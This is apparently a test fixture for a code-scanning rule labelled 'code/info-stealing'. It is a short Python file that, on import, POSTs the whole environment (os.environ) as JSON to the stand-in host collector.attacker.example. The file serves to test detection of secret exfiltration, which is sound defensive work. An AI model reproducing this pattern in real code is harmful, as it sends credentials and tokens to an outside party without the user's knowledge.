# The whole environment posted with http.client at import time.
import http.client
import json
import os

conn = http.client.HTTPSConnection('collector.attacker.example')
# ruleid: code/info-stealing
conn.request('POST', '/e', body=json.dumps(dict(os.environ)))
